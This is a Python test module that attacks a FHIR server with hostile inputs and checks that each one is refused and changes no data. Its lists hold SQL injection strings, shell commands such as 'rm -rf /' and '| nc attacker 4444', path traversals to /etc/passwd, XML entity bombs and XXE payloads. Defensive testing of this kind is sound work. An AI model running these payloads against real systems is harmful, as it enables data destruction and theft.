"""A hostile-input corpus against the running app, on SQLite and PostgreSQL: oversized and
chunked bodies, deep nesting (JSON and XML), invalid UTF-8, SQL and shell injection strings in
ids and every search parameter of every served type, path traversal in ids, download tokens
and attachment urls, XML entity bombs and external entities. Every case is answered with a
4xx OperationOutcome (search values are the exception the spec makes: a string parameter
may hold any text, so there the answer is 200 with no match, or 400), and the database and
the data folder are exactly as they were afterwards.

One app per backend serves the whole module (each case checks its own before and after), so
the corpus stays fast."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import orjson
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.engine import Engine

from fhir_server.app import create_app
from fhir_server.settings import Settings
from storage.schema import metadata
from tests.conftest import TEST_ENCRYPTION_KEYS, TEST_HASH_KEY, empty_tables
from tests.factories import FHIR_JSON, PDF_BYTES, communication_request, document_reference

MAX_BODY = 20_000
MAX_BUNDLE = 60_000
MAX_UPLOAD = 30_000
SEED_SSN = "123-45-6789"

SQL_INJECTIONS = ["' OR '1'='1", "x' OR 1=1 --", "1; DROP TABLE patients; --",
                  "' UNION SELECT ssn_ciphertext FROM patients --", "%' OR '%'='",
                  "\\'; DELETE FROM patients WHERE '1'='1"]
SHELL_INJECTIONS = ["$(rm -rf /)", "`id`", "; cat /etc/passwd", "| nc attacker 4444",
                    "&& shutdown -h now", "${IFS}cat${IFS}/etc/shadow"]
SEARCH_PAYLOADS = [*SQL_INJECTIONS, *SHELL_INJECTIONS, "../../../../etc/passwd"]
TRAVERSALS = ["../../../../etc/passwd", "..%2F..%2F..%2Fetc%2Fpasswd", "..\\..\\windows\\win.ini",
              "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "....//....//etc/passwd", "/etc/passwd%00.json"]


@dataclass
class Case:
    name: str
    method: str
    url: str
    content: bytes | Iterator[bytes] | None = None
    headers: dict[str, str] = field(default_factory=dict)
    search: bool = False


def _deep_json(depth: int) -> bytes:
    return b'{"resourceType":"Patient","extension":' + b"[" * depth + b"]" * depth + b"}"


def _deep_extension_json(levels: int) -> bytes:
    inner = '{"url":"urn:x","valueString":"x"}'
    for _ in range(levels):
        inner = '{"url":"urn:x","extension":[' + inner + "]}"
    return ('{"resourceType":"Patient","extension":[' + inner + "]}").encode()


def _deep_xml(depth: int) -> bytes:
    return (b'<Patient xmlns="http://hl7.org/fhir">' + b'<extension url="urn:x">' * depth
            + b"</extension>" * depth + b"</Patient>")


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<Patient xmlns="http://hl7.org/fhir"><name><family value="&lol4;"/></name></Patient>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE p [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Patient xmlns="http://hl7.org/fhir"><name><family value="&xxe;"/></name></Patient>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE p [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>
<Patient xmlns="http://hl7.org/fhir"/>"""
QUADRATIC = (b'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY a "' + b"a" * 5000 + b'">]>'
             b'<Patient xmlns="http://hl7.org/fhir"><name><family value="'
             + b"&a;" * 3000 + b'"/></name></Patient>')
XML_INCLUDE = (b'<Patient xmlns="http://hl7.org/fhir" xmlns:xi="http://www.w3.org/2001/XInclude">'
               b'<xi:include href="file:///etc/passwd" parse="text"/></Patient>')

JSON = FHIR_JSON
XML = {"Content-Type": "application/fhir+xml", "Accept": "application/fhir+json"}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}


def _chunked(size: int) -> Iterator[bytes]:
    for _ in range(size // 4096 + 1):
        yield b" " * 4096


def _body_cases() -> list[Case]:
    big = b'{"resourceType":"Patient","text":{"status":"generated","div":"' + b"a" * (
        MAX_BODY * 2) + b'"}}'
    return [
        Case("oversized-declared", "POST", "/fhir/Patient", big, JSON),
        Case("oversized-chunked", "POST", "/fhir/Patient", _chunked(MAX_BODY * 2), JSON),
        Case("oversized-update", "PUT", "/fhir/Patient/p-1", big, JSON),
        Case("oversized-bundle", "POST", "/fhir", b"[" + b" " * MAX_BUNDLE * 2 + b"]", JSON),
        Case("oversized-binary-raw", "POST", "/fhir/Binary",
             PDF_BYTES + b" " * MAX_UPLOAD * 2, {"Content-Type": "application/pdf"}),
        Case("oversized-binary-chunked", "POST", "/fhir/Binary", _chunked(MAX_UPLOAD * 2),
             {"Content-Type": "application/pdf"}),
        Case("oversized-xml", "POST", "/fhir/Patient", b"<" * (MAX_BODY * 2), XML),
        Case("oversized-search-form", "POST", "/fhir/Patient/_search",
             b"name=" + b"a" * MAX_BODY * 2, FORM),
        Case("oversized-template", "POST", "/messaging/templates", _chunked(MAX_BODY * 2),
             {"Content-Type": "application/json"}),
        Case("oversized-twilio-callback", "POST", "/messaging/twilio/status",
             _chunked(MAX_BODY * 2), FORM),
        Case("deep-json-arrays", "POST", "/fhir/Patient", _deep_json(100_000 // 2), JSON),
        Case("deep-json-1000", "POST", "/fhir/Patient", _deep_json(1000), JSON),
        Case("deep-extensions", "POST", "/fhir/Patient", _deep_extension_json(200), JSON),
        Case("deep-bundle", "POST", "/fhir", b'{"resourceType":"Bundle","type":"batch",'
             b'"entry":[{"resource":' + _deep_extension_json(100) + b"}]}", JSON),
        Case("deep-parameters", "POST", "/fhir/Patient/$match",
             b'{"resourceType":"Parameters","parameter":[{"name":"resource","resource":'
             + _deep_extension_json(100) + b"}]}", JSON),
        Case("deep-json-patch", "PATCH", "/fhir/Patient/p-1",
             b'[{"op":"add","path":"/extension","value":' + b"[" * 500 + b"]" * 500 + b"}]",
             {"Content-Type": "application/json-patch+json"}),
        Case("deep-xml", "POST", "/fhir/Patient", _deep_xml(5000), XML),
        Case("deep-xml-300", "POST", "/fhir/Patient", _deep_xml(300), XML),
        Case("invalid-utf8-json", "POST", "/fhir/Patient",
             b'{"resourceType":"Patient","name":[{"family":"\xff\xfe\xc0\xaf"}]}', JSON),
        Case("invalid-utf8-xml", "POST", "/fhir/Patient",
             b'<Patient xmlns="http://hl7.org/fhir"><name><family value="\xff\xc0"/></name>'
             b"</Patient>", XML),
        Case("invalid-utf8-form", "POST", "/fhir/Patient/_search", b"name=\xff\xfe", FORM),
        Case("invalid-utf8-template", "POST", "/messaging/templates",
             b'{"name":"\xff","channel":"sms","body":"x"}', {"Content-Type": "application/json"}),
        Case("invalid-utf8-query", "GET", "/fhir/Patient?name=%FF%FE%C0%AF"),
        Case("invalid-utf8-id", "GET", "/fhir/Patient/%FF%FE"),
        Case("overlong-utf8-slash", "GET", "/fhir/Patient/%C0%AFetc%C0%AFpasswd"),
        Case("nul-in-json", "POST", "/fhir/Patient",
             b'{"resourceType":"Patient","name":[{"family":"a\\u0000b"}]}', JSON),
        Case("nul-in-query", "GET", "/fhir/Patient?name=a%00b"),
        Case("huge-number", "POST", "/fhir/Patient",
             b'{"resourceType":"Patient","multipleBirthInteger":1' + b"0" * 400 + b"}", JSON),
        Case("nan-literal", "POST", "/fhir/Patient",
             b'{"resourceType":"Patient","multipleBirthInteger":NaN}', JSON),
        Case("billion-laughs", "POST", "/fhir/Patient", BILLION_LAUGHS, XML),
        Case("external-entity", "POST", "/fhir/Patient", EXTERNAL_ENTITY, XML),
        Case("parameter-entity", "POST", "/fhir/Patient", PARAMETER_ENTITY, XML),
        Case("quadratic-blowup", "POST", "/fhir/Patient", QUADRATIC, XML),
        Case("xinclude", "POST", "/fhir/Patient", XML_INCLUDE, XML),
        Case("xml-bundle-bomb", "POST", "/fhir", BILLION_LAUGHS.replace(b"Patient", b"Bundle"),
             XML),
        Case("entity-bomb-update", "PUT", "/fhir/Patient/p-1", BILLION_LAUGHS, XML),
        Case("download-token-forged", "GET", "/download/eyJiIjoiLi4vLi4vZXRjL3Bhc3N3ZCJ9.AAAA"),
        Case("content-length-garbage", "POST", "/fhir/Patient", b"{}",
             {**JSON, "Content-Length": "1e9"}),
    ]


def _json(resource: dict[str, Any]) -> bytes:
    return orjson.dumps(resource)


def _id_cases() -> list[Case]:
    cases = []
    values = [*SQL_INJECTIONS, *SHELL_INJECTIONS, *TRAVERSALS, "a" * 65, "p-1'--", "p-1%00"]
    for number, value in enumerate(values):
        encoded = quote(value, safe="%")  # the traversals keep their own encoding
        for method, path in (("GET", f"/fhir/Patient/{encoded}"),
                             ("DELETE", f"/fhir/CommunicationRequest/{encoded}"),
                             ("GET", f"/fhir/Binary/{encoded}"),
                             ("GET", f"/fhir/Patient/{encoded}/_history/1"),
                             ("GET", f"/fhir/DocumentReference/{encoded}/$download-url"),
                             ("GET", f"/download/{encoded}"),
                             ("GET", f"/messaging/templates/{encoded}")):
            cases.append(Case(f"id-{number}-{method}-{path.split('/')[2]}", method, path))
        cases.append(Case(f"id-{number}-PUT", "PUT", f"/fhir/Patient/{encoded}",
                          _json({"resourceType": "Patient", "id": value}), JSON))
    return cases


BODY_CASES = _body_cases()
ID_CASES = _id_cases()
AUDIT_TABLES = ("audit_",)
"""The audit trail records every request, refused ones included: that is its job."""


def _digest(engine: Engine, data_dir: Path) -> str:
    """Every row of every table (the audit trail aside) and every file under the data folder,
    hashed."""
    digest = hashlib.sha256()
    with engine.connect() as connection:
        for table in metadata.sorted_tables:
            if table.name.startswith(AUDIT_TABLES):
                continue
            rows = sorted(repr(tuple(row)) for row in connection.execute(select(table)))
            digest.update(f"{table.name}:{rows}".encode())
    for path in sorted(data_dir.rglob("*")):
        if path.is_file() and not path.name.startswith("fhir.sqlite3"):
            digest.update(str(path.relative_to(data_dir)).encode() + path.read_bytes())
    return digest.hexdigest()


@dataclass
class Target:
    client: TestClient
    engine: Engine
    data_dir: Path


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def target(request: pytest.FixtureRequest, database_urls: dict[str, str],
           sync_engines: dict[str, Engine],
           tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    """One app per backend with a small seed: a patient with an SSN, a document and its
    Binary, a send order."""
    if request.param not in database_urls:
        pytest.skip("PostgreSQL tests need FHIR_TEST_POSTGRES_URL")
    engine = sync_engines[request.param]
    empty_tables(engine)
    data_dir = tmp_path_factory.mktemp("hostile") / "var"
    settings = Settings(data_dir=data_dir, database_url=database_urls[request.param],
                        encryption_keys=TEST_ENCRYPTION_KEYS, hash_key=TEST_HASH_KEY,
                        base_url="http://testserver/fhir", messaging_worker=False,
                        max_body_bytes=MAX_BODY, bundle_max_bytes=MAX_BUNDLE,
                        max_upload_bytes=MAX_UPLOAD, twilio_auth_token="hostile-test-token")
    with TestClient(create_app(settings, migrate=False)) as client:
        seed = [("Patient/p-1", {"resourceType": "Patient", "id": "p-1",
                                 "identifier": [{"system": "http://hl7.org/fhir/sid/us-ssn",
                                                 "value": SEED_SSN}],
                                 "name": [{"family": "Okonkwo", "given": ["Adaeze"]}],
                                 "telecom": [{"system": "phone", "value": "+16175550134"}]}),
                ("DocumentReference/d-1", document_reference(id="d-1")),
                ("CommunicationRequest/r-1", communication_request(id="r-1",
                                                                   status="completed"))]
        for path, resource in seed:
            response = client.put(f"/fhir/{path}", json=resource, headers=JSON)
            assert response.status_code == 201, response.text
        yield Target(client, engine, data_dir)
    empty_tables(engine)


def _refusal_problem(case: Case, response: Any) -> str | None:
    """What is wrong with the answer to a hostile request (None: a proper refusal)."""
    if not 400 <= response.status_code < 500:
        return f"{response.status_code}: {response.text[:200]}"
    if "Traceback" in response.text:
        return "a traceback in the answer"
    if response.headers.get("content-type", "").startswith("application/fhir+json"):
        if response.json().get("resourceType") != "OperationOutcome":
            return f"not an OperationOutcome: {response.text[:200]}"
    elif not case.url.startswith(("/download", "/messaging")):
        return f"not FHIR JSON: {response.headers.get('content-type')}"
    return None


def _send(client: TestClient, case: Case) -> Any:
    return client.request(case.method, case.url, content=case.content, headers=case.headers)


@pytest.mark.parametrize("case", BODY_CASES, ids=[case.name for case in BODY_CASES])
def test_hostile_body_or_url_is_refused_and_changes_nothing(target: Target, case: Case) -> None:
    before = _digest(target.engine, target.data_dir)
    assert _refusal_problem(case, _send(target.client, case)) is None
    assert _digest(target.engine, target.data_dir) == before


def test_hostile_ids_are_refused_and_change_nothing(target: Target) -> None:
    before = _digest(target.engine, target.data_dir)
    problems = [(case.name, case.url, problem) for case in ID_CASES
                if (problem := _refusal_problem(case, _send(target.client, case)))]
    assert problems == []
    assert _digest(target.engine, target.data_dir) == before


def _search_parameters(client: TestClient) -> dict[str, dict[str, str]]:
    """Search parameter -> FHIR type, per served type, with the common ones."""
    registry = client.app.state.services.search_registry  # type: ignore[attr-defined]
    common = {"_id": "token", "_lastUpdated": "date", "_sort": "control",
              "_count": "control", "_summary": "control", "_elements": "control",
              "_total": "control", "_include": "control", "_revinclude": "control",
              "_has:Patient:link:name": "string", "_page": "control", "_format": "control"}
    return {name: {**{key: parameter.type for key, parameter in parameters.items()},
                   **common}
            for name, parameters in registry.items()}


def test_injection_strings_in_every_search_parameter_find_nothing(target: Target) -> None:
    """Each parameter of each type gets every injection string at once (an OR list), plain
    and, for strings, with :exact and :contains. Criteria must match nothing; controls may
    refuse or ignore the value; nothing answers 5xx."""
    before = _digest(target.engine, target.data_dir)
    values = ",".join(value.replace(",", "\\,") for value in SEARCH_PAYLOADS)
    problems = []
    for resource_type, parameters in _search_parameters(target.client).items():
        for name, kind in parameters.items():
            suffixes = ("", ":exact", ":contains") if kind == "string" else ("",)
            for suffix in suffixes:
                url = f"/fhir/{resource_type}?{quote(name + suffix)}={quote(values)}"
                response = target.client.get(url)
                if response.status_code == 200:
                    matches = [entry for entry in response.json().get("entry", [])
                               if entry["search"]["mode"] == "match"]
                    if matches and kind != "control":
                        problems.append((url, f"matched {len(matches)}"))
                elif not 400 <= response.status_code < 500:
                    problems.append((url, f"{response.status_code} {response.text[:200]}"))
    assert problems == []
    assert _digest(target.engine, target.data_dir) == before


def test_traversal_strings_in_references_stay_inert_text(target: Target) -> None:
    """Attachment urls and security contexts are references, kept as the client wrote them
    (FHIR allows any url there): one with '..' or file:// is stored as text, never opened;
    its download link is refused and no file appears."""
    files_before = sorted(target.data_dir.rglob("*"))
    for url in ("Binary/../../../etc/passwd", "file:///etc/passwd"):
        document = document_reference(content=[{"attachment": {
            "contentType": "application/pdf", "url": url}}])
        created = target.client.post("/fhir/DocumentReference", json=document, headers=JSON)
        assert created.status_code == 201, created.text
        assert created.json()["content"][0]["attachment"]["url"] == url
        link = target.client.get(f"/fhir/DocumentReference/{created.json()['id']}"
                                 "/$download-url")
        assert 400 <= link.status_code < 500, link.text
        assert "root:" not in link.text
        target.client.delete(f"/fhir/DocumentReference/{created.json()['id']}")
    raw = target.client.post("/fhir/Binary", content=PDF_BYTES, headers={
        "Content-Type": "application/pdf", "X-Security-Context": "../../etc/passwd"})
    assert raw.status_code == 201
    read = target.client.get(f"/fhir/Binary/{raw.json()['id']}")
    assert read.content == PDF_BYTES
    target.client.delete(f"/fhir/Binary/{raw.json()['id']}")
    new_files = set(target.data_dir.rglob("*")) - set(files_before)
    assert all(".." not in str(path) and "passwd" not in str(path) for path in new_files)
